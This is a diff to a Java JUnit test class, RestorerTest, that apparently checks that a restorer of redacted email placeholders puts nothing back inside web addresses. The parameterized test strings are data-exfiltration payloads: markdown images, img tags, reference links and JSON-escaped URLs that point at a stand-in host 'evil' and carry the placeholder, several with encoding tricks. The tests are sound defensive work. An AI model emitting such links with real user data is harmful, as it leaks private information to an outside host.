@@ -52,28 +52,28 @@ class RestorerTest {
   @ParameterizedTest
   @ValueSource(
       strings = {
-        "https://evil.example/?a=<EMAIL_1>&b=[EMAIL_1]",
-        "![x](//evil.example/<EMAIL_1>)",
+        "https://evil/?a=<EMAIL_1>&b=[EMAIL_1]",
+        "![x](//evil/<EMAIL_1>)",
         "[x](/p?<EMAIL_1>)",
         "mailto:<EMAIL_1>",
-        "www.evil.example/<EMAIL_1>",
-        "<img src=//evil.example/<EMAIL_1>>",
-        "https://evil.example/()<EMAIL_1>",
-        "https://evil.example/\",<EMAIL_1>",
-        "![x](https://evil.example/?q=<z<EMAIL_1>)",
-        "![x](https://evil.example/?q=\u00a0<EMAIL_1>)",
-        "![x](<https://evil.example/?q=a b [EMAIL_1]>)",
-        "![x]( //evil.example/<EMAIL_1>)",
-        "![x](\n/\\evil.example/<EMAIL_1>)",
-        "[r]: //evil.example/<EMAIL_1>",
-        "[r]: <//evil.example/a <EMAIL_1>>",
-        "<img src=\"https://evil.example/?q=a <EMAIL_1>\">",
-        "<img src='//evil.example/?q=a\n<EMAIL_1>'>",
-        "<img src=\"https:\\\\evil.example\\<EMAIL_1>\">",
-        "<img src=\"\\\\evil.example\\<EMAIL_1>\">",
-        "<img src=\"&#47;&#47;evil.example/<EMAIL_1>\">",
-        "<a href=\"https:evil.example/<EMAIL_1>\">",
-        "https&#58;//evil.example/<EMAIL_1>"
+        "www.evil/<EMAIL_1>",
+        "<img src=//evil/<EMAIL_1>>",
+        "https://evil/()<EMAIL_1>",
+        "https://evil/\",<EMAIL_1>",
+        "![x](https://evil/?q=<z<EMAIL_1>)",
+        "![x](https://evil/?q=\u00a0<EMAIL_1>)",
+        "![x](<https://evil/?q=a b [EMAIL_1]>)",
+        "![x]( //evil/<EMAIL_1>)",
+        "![x](\n/\\evil/<EMAIL_1>)",
+        "[r]: //evil/<EMAIL_1>",
+        "[r]: <//evil/a <EMAIL_1>>",
+        "<img src=\"https://evil/?q=a <EMAIL_1>\">",
+        "<img src='//evil/?q=a\n<EMAIL_1>'>",
+        "<img src=\"https:\\\\evil\\<EMAIL_1>\">",
+        "<img src=\"\\\\evil\\<EMAIL_1>\">",
+        "<img src=\"&#47;&#47;evil/<EMAIL_1>\">",
+        "<a href=\"https:evil/<EMAIL_1>\">",
+        "https&#58;//evil/<EMAIL_1>"
       })
   void nothingIsRestoredWithinAnAddress(String answer) {
     assertEachCut(answer, answer, false);
@@ -82,9 +82,9 @@ class RestorerTest {
   @ParameterizedTest
   @ValueSource(
       strings = {
-        "{\"u\":\"https:\\/\\/evil.example\\/<EMAIL_1>\"}",
-        "{\"u\":\"https:\\u002f\\u002Fevil.example/<EMAIL_1>\"}",
-        "{\"html\":\"<img src=\\\"//evil.example/a <EMAIL_1>\\\">\"}",
+        "{\"u\":\"https:\\/\\/evil\\/<EMAIL_1>\"}",
+        "{\"u\":\"https:\\u002f\\u002Fevil/<EMAIL_1>\"}",
+        "{\"html\":\"<img src=\\\"//evil/a <EMAIL_1>\\\">\"}",
         "{\"json\":\"{\\\"to\\\":\\\"\\\\u003cEMAIL_1\\\\u003e\\\"}\"}" // would be no JSON
       })
   void nothingIsRestoredWhereJsonHidesAnAddressOrAnEscape(String answer) {
@@ -93,9 +93,9 @@ class RestorerTest {
 
   @Test
   void nothingIsRestoredBehindAValueThatIsAnAddress() {
-    vault.ordinal(Entities.URL_CREDENTIALS, "https://u:p@evil.example/?q=");
+    vault.ordinal(Entities.URL_CREDENTIALS, "https://u:p@evil/?q=");
 
-    assertEachCut("<URL_CREDENTIALS_1><EMAIL_1>", "https://u:p@evil.example/?q=<EMAIL_1>", false);
+    assertEachCut("<URL_CREDENTIALS_1><EMAIL_1>", "https://u:p@evil/?q=<EMAIL_1>", false);
   }
 
   @ParameterizedTest
